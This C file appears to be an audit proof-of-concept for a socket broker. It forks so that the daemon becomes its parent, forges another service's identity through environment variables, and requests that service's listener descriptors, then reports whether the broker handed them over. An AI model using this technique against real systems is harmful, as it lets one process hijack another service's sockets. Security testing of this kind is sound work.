/*
 * Finding 4. A process that leaves its own worker and says of itself that it is another service's, by its environment.
 *   forged-membership BROKER LISTENER NAME=VALUE...
 * Forks twice, so that its parent is the daemon, executes itself with that environment, and asks for the listener.
 */
#include "attack.h"

static int take(const char *broker, const char *listener)
{
    char request[512], answer[65536];
    int fds[MOST_DESCRIPTORS], count, fd = dial(broker, SOCK_SEQPACKET);
    if (fd < 0)
        broken("the broker");
    snprintf(request, sizeof request, "{\"method\":\"take\",\"listeners\":[\"%s\"]}", listener);
    if (send(fd, request, strlen(request), MSG_NOSIGNAL) < 0)
        broken("the request");
    struct pollfd waits = { fd, POLLIN, 0 };
    if (poll(&waits, 1, 10000) != 1)
        broken("the broker did not answer");
    long n = receive_with(fd, answer, sizeof answer - 1, fds, &count, 0);
    answer[n > 0 ? n : 0] = 0;
    printf("as a child of %d: %s, %d descriptors\n", getppid(), answer, count);
    fflush(stdout);
    return count > 0;
}

int main(int argc, char **argv)
{
    if (argc < 3)
        errno = EINVAL, broken("forged-membership BROKER LISTENER NAME=VALUE...");
    if (argc == 3) {
        /* Executed anew, as a child of the daemon. What came of it is told on 9. */
        int done = take(argv[1], argv[2]) ? SUCCEEDED : FAILED;
        if (write(9, &done, sizeof done) != sizeof done)
            broken("the result");
        return 0;
    }
    int lives[2], result[2], done;
    if (pipe2(lives, O_CLOEXEC) != 0 || pipe2(result, O_CLOEXEC) != 0)
        broken("pipe");
    int first = fork();
    if (first == 0) {
        setsid();
        if (fork() == 0) {
            char *words[] = { argv[0], argv[1], argv[2], NULL }, byte;
            /* Its parent is gone when nobody can write any more. */
            close(lives[1]);
            while (read(lives[0], &byte, 1) > 0)
                ;
            dup2(result[1], 9);
            execve(argv[0], words, argv + 3);
        }
        _exit(0);
    }
    close(lives[1]);
    close(result[1]);
    waitpid(first, NULL, 0);
    if (read(result[0], &done, sizeof done) != sizeof done)
        broken("nothing was told");
    if (done == SUCCEEDED)
        succeeded("listener %s was lent to a process that is not of its service", argv[2]);
    failed("listener %s was refused", argv[2]);
}
